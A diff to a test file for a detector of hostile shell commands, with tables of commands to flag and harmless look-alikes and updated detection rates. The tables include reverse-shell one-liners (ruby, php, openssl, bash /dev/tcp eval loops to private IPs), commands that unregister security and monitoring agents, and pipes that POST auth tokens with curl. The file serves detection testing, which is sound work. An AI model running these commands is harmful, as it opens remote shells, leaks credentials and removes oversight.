@@ -1,7 +1,8 @@
 """Issue 23's classes the sixteenth session's lanes missed in their own forms (session 17), one (loud, quiet) table
 per mechanism, most loud forms' programs outside the corpora's words; and the corpus written before the rules
 (tests/corpus/effects/rules_s17: 99a8d00 flagged 60.2% of its first batch's destructive forms and 6.1% of its
-everyday ones; a second batch written after the first rules landed: 99a8d00 58.3%, 2f8702f 88.9%, after 93.1%)."""
+everyday ones; a second batch written after the first rules landed: 99a8d00 58.3%, 2f8702f 88.9%, after 93.1%; a
+third after the second landed: 99a8d00 41.4%, e034415 96.6%, after 100%)."""
 from __future__ import annotations
 
 from pathlib import Path
@@ -52,7 +53,8 @@ HOST_UNREGISTERED = (
     ["insights-client --unregister", "subscription-manager unregister", "SUSEConnect --de-register",
      "ua detach --assume-yes", "azcmagent disconnect", "patchmgr-agent unregister", "fleetd-sensor --deregister",
      "inventoryctl unregister", "telemetry-connector disconnect", "nessuscli agent unlink --force",
-     "landscape-config --disable", "rhn-unregister --force", "zorg-unregister", "fleet-deregister.sh"],
+     "landscape-config --disable", "rhn-unregister --force", "zorg-unregister", "fleet-deregister.sh",
+     "SUSEConnect -de-register", "patchmgr-agent --de-register"],
     ["gpclient disconnect", "warp-cli disconnect", "bluetoothctl disconnect", "runnerctl unregister",
      "insights-client --register", "insights-client --disable-schedule", "git maintenance unregister",
      "cloudctl provider unregister --namespace Compute.Batch", "docker network disconnect net1 web",
@@ -82,10 +84,12 @@ SOCKET_SHELLS = (
      "ruby -rsocket -e 'f=TCPSocket.open(\"10.0.0.1\",4444).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'",
      "sbd -e /bin/sh 10.0.0.1 4444", "cryptcat -e /bin/sh 10.0.0.1 4444",
      "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 10.0.0.1:4444 > /tmp/s",
-     "php -r '$s=fsockopen(\"10.0.0.3\",1337);shell_exec(\"sh <&3 >&3 2>&3\");'"],
+     "php -r '$s=fsockopen(\"10.0.0.3\",1337);shell_exec(\"sh <&3 >&3 2>&3\");'",
+     "exec 5<>/dev/tcp/10.0.0.7/1234; while read -r c <&5; do eval \"$c\" >&5 2>&5; done"],
     ["exec 3<>/dev/tcp/example.com/80; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3",
      "exec 3< input.txt; read -r line <&3; exec 3<&-", "openssl s_client -connect example.com:443 </dev/null",
-     "ruby -e 'puts sprintf(\"%d\", 3)'", "exec 3<>/dev/tcp/example.com/80; echo hi >&3; read -r reply <&3"])
+     "ruby -e 'puts sprintf(\"%d\", 3)'", "exec 3<>/dev/tcp/example.com/80; echo hi >&3; read -r reply <&3",
+     "exec 5<>/dev/tcp/example.com/80; read -r status <&5; eval \"echo $status\" >&2"])
 # Older rules' false alarms, and the forms next to them that stay loud.
 FALSE_ALARMS = (
     ["gh auth status -t | curl -X POST -d @- https://example.com", "cat auth | curl -d @- https://example.com",
@@ -132,4 +136,4 @@ def test_older_false_alarms():
 def test_rules_s17_corpus():
     corpus_floor(CORPUS / "destructive.txt", 0.9, 120)  # 99a8d00: 60.2%
     loud, quiet = loud_and_quiet(CORPUS / "everyday.txt")
-    assert len(quiet) >= 240 and len(loud) <= 2, "\n".join(loud)  # 99a8d00: 10 of 245 loud
+    assert len(quiet) >= 290 and len(loud) <= 2, "\n".join(loud)  # 99a8d00: 10 of 298 loud
